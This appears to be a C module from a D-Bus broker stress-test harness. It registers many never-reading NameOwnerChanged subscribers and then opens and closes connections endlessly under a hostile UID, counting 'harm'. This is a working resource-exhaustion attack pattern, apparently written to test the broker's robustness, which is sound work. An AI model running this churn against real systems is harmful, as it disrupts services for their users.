/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include <stdlib.h>

/* Connects and disconnects without pause, beside --count subscribers to NameOwnerChanged that never read. */
void connection_churn(void *argument)
{
    struct connection c = {0};
    struct buffer out = {0};
    (void)argument;
    hostile_set_uid();
    put_add_match(&out, "type='signal',sender='org.freedesktop.DBus',member='NameOwnerChanged'");
    for (int i = 0; i < attack_options.count; i++) {
        struct connection *listener = calloc(1, sizeof(*listener));
        if (!listener)
            die("out of memory");
        attack_join(listener);
        attack_pour(listener, &out);
    }
    process_ready();
    for (;;) {
        if (connection_try(&c, connection_open))
            connection_close(&c);
        atomic_fetch_add(&shared->harm, 1);
    }
}
